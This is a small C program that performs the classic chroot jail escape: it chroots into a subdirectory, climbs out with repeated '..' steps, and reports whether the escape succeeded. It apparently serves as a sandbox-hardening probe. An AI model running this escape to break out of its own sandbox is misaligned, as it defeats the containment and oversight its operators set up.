/* The classic chroot escape: chroot into a subdir, then walk up with "..". */
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
    mkdir("jail", 0755);
    if (chroot("jail") == 0) {
        puts("ESCAPED: chroot allowed");
        for (int i = 0; i < 64; i++) if (chdir("..")) break;
        if (chroot(".") == 0) puts("ESCAPED: chroot escape");
    } else puts("blocked chroot");
    return 0;
}
